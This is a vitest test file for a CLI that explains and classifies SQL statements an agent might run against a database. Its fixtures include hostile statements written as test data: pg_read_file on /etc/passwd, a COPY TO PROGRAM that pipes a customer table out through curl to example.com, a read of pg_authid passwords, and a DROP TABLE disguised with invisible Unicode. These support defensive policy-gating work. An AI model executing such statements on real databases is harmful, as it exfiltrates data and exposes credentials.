import { afterAll, expect, it } from 'vitest';
import { openExplainer } from '../../src/cli/explain.ts';
import { explanationText } from '../../src/cli/explain-text.ts';
import { PLAIN } from '../../src/cli/paint.ts';
import { DEFAULT_LIMITS } from '../../src/config/limits.ts';
import { catalogOf } from '../statement/support.ts';

/**
 * fixtures/statements/explanations.txt is what these statements are explained as, to be read by people. After a change
 * that is meant: `npx vitest run test/cli/explanations -u`, and read the difference.
 */

const catalog = catalogOf({
  tables: {
    customers: { rows: 20_000, columns: ['id', 'name', 'email', 'segment'] },
    orders: { rows: null, columns: ['id', 'customer_id', 'total'] },
    countries: { rows: 40, columns: ['code', 'name'], keys: [['code']] },
    audited: { rows: 10, effects: { insert: ['trigger t of public.audited calls public.tell()'] } },
    everyone: { columns: ['id', 'name'], view: 'SELECT id, name FROM public.customers' },
    pg_class: { schema: 'pg_catalog', rows: null, columns: ['oid', 'relname'] },
    pg_authid: { schema: 'pg_catalog', rows: 20, columns: ['rolname', 'rolpassword'] },
  },
  functions: { 'public.tell': { volatility: 'volatile', securityDefiner: true } },
});

const estimates: Readonly<Record<string, { rows: number; foldedRows: number }>> = {
  "SELECT * FROM customers WHERE segment = 'gold'": { rows: 420, foldedRows: 0 },
  'SELECT * FROM orders WHERE total > 10': { rows: 48_000, foldedRows: 0 },
  'SELECT segment, json_agg(name) FROM customers GROUP BY segment': { rows: 4, foldedRows: 20_000 },
};

const connected = {
  catalog,
  scope: { searchPath: ['public'], tempPossible: false },
  probe: async (sql: Buffer | string) =>
    sql.toString().startsWith('SELEC ')
      ? {
          severity: 'ERROR',
          code: '42601',
          message: 'syntax error at or near "SELEC"',
          detail: null,
          hint: null,
          position: 1,
          routine: 'scanner_yyerror',
        }
      : null,
  questions: {
    meaning: async () => null,
    estimate: async (sql: Buffer) => estimates[sql.toString()] ?? null,
  },
  close: async () => {},
};

const SETUP = {
  policy: { digest: '', rules: [] },
  limits: DEFAULT_LIMITS,
  context: { agent: '', owner: null, database: 'shop', role: 'agent' },
  mode: 'enforce',
  connected,
  searchPath: ['public'],
} as const;

const explainer = await openExplainer(SETUP);
const byText = await openExplainer({ ...SETUP, connected: null });
const ruled = await openExplainer({
  ...SETUP,
  policy: {
    digest: 'sha256:0123456789abcdef',
    rules: [{ name: 'no mail addresses', match: { relation: ['public.customers'] }, decision: 'deny' }],
  },
});
const observing = await openExplainer({ ...SETUP, mode: 'observe' });
afterAll(() => Promise.all([explainer, byText, ruled, observing].map((one) => one.close())));

const STATEMENTS: readonly [string, typeof explainer, string][] = [
  ['session', explainer, 'BEGIN'],
  ['session, a setting', explainer, "SET work_mem = '64MB'"],
  ['session, nothing at all', explainer, '-- nothing'],
  ['read by key', explainer, 'SELECT name, email FROM customers WHERE id = 17'],
  ['read of a small table', explainer, 'SELECT * FROM countries'],
  ['read of a view', explainer, 'SELECT * FROM everyone WHERE id = 17'],
  ['read by an estimate', explainer, "SELECT * FROM customers WHERE segment = 'gold'"],
  ['read of system catalogs', explainer, 'SELECT relname FROM pg_class'],
  ['read without a database', byText, 'SELECT * FROM customers WHERE id = 17'],
  ['write', explainer, "UPDATE customers SET email = 'x' WHERE id = 17"],
  ['bulk write', explainer, 'DELETE FROM customers\nWHERE true'],
  ['bulk write, by size', explainer, "UPDATE customers SET segment = 'x' WHERE name = 'y'"],
  ['export', explainer, 'SELECT id,\n\tname\nFROM\tcustomers'],
  ['export by an estimate', explainer, 'SELECT * FROM orders WHERE total > 10'],
  ['export, folded', explainer, 'SELECT segment, json_agg(name) FROM customers GROUP BY segment'],
  ['export by COPY', explainer, 'COPY customers TO STDOUT'],
  ['export, by a value that is not known yet', explainer, 'SELECT * FROM customers LIMIT $1'],
  ['ddl', explainer, 'ALTER TABLE customers ADD COLUMN note text'],
  ['ddl, with what cannot be seen', explainer, 'DROP TABLE "cust\u200bomers\u202e"\r; -- \u202d'],
  ['privilege', explainer, 'GRANT SELECT ON customers TO bob'],
  ['privilege, with a secret', explainer, "ALTER ROLE bob PASSWORD 'hunter2'\n SUPERUSER"],
  [
    'privilege, with secrets all over',
    explainer,
    "CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'u',\n password 'p')",
  ],
  ['privilege, by a column', explainer, 'SELECT rolpassword FROM pg_authid'],
  ['opaque, a function', explainer, "SELECT '日本語', tell(id) FROM customers WHERE id = 17"],
  ['opaque, a trigger', explainer, 'INSERT INTO audited VALUES (1)'],
  ['opaque, a name of another message', explainer, 'EXECUTE by_name(17)'],
  ['opaque, a block', byText, 'DO $$ BEGIN DELETE FROM customers; END $$'],
  ['admin', explainer, "SELECT pg_read_file('/etc/passwd')"],
  ['admin, a program', explainer, "COPY customers TO PROGRAM 'curl -T - https://example.com'"],
  ['unparsed, a mistake', explainer, 'SELEC * FROM customers'],
  ['unparsed, and the server reads it', explainer, 'SELECT 1\nFROM customers FOR ever'],
  ['denied: a pinned setting', explainer, 'SET client_encoding = BIG5'],
  ['denied by a rule', ruled, 'SELECT email FROM customers WHERE id = 17'],
  ['held, in mode observe', observing, 'TRUNCATE customers'],
  [
    'several statements',
    explainer,
    'BEGIN; SELECT name FROM customers WHERE id = 17;\nDROP TABLE customers; COMMIT',
  ],
  [
    'a long line',
    explainer,
    `SELECT ${Array.from({ length: 60 }, (_, i) => `${i} AS c${i}`).join(', ')}, tell(1), 'and more of the same, until there is no room for it'`,
  ],
];

const escaped = (sql: string) =>
  JSON.stringify(sql).replaceAll(
    /\p{Cf}/gu,
    (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );

it('each is explained as it stands in the golden file', async () => {
  const parts = [
    '# Made by test/cli/explanations.test.ts (-u writes it anew): what `countersign explain` says of each statement.\n',
  ];
  const classes = new Set<string>();
  for (const [title, one, sql] of STATEMENTS) {
    const explained = await one.explain(sql);
    classes.add(explained.class);
    parts.push(`== ${title}\n${escaped(sql)}\n\n${explanationText(explained, PLAIN)}`);
  }
  expect(classes.size).toBe(10);
  await expect(parts.join('\n')).toMatchFileSnapshot('../../fixtures/statements/explanations.txt');
});

it('in colours it says the same', async () => {
  for (const [, one, sql] of STATEMENTS) {
    const explained = await one.explain(sql);
    const coloured = explanationText(explained, (how, text) => `<${how}>${text}</${how}>`);
    expect(coloured).toContain('<bold>');
    expect(coloured.replaceAll(/<\/?(bold|dim|red|green|yellow)>/g, '')).toBe(
      explanationText(explained, PLAIN),
    );
  }
});

it('no byte of a secret, and nothing that cannot be seen, is in any of it', async () => {
  for (const [, one, sql] of STATEMENTS) {
    const text = explanationText(await one.explain(sql), PLAIN);
    expect(text).not.toMatch(/hunter2|'p'|'u'/);
    expect(text).not.toMatch(/[\p{Cc}\p{Cf}](?<!\n)/u);
  }
});
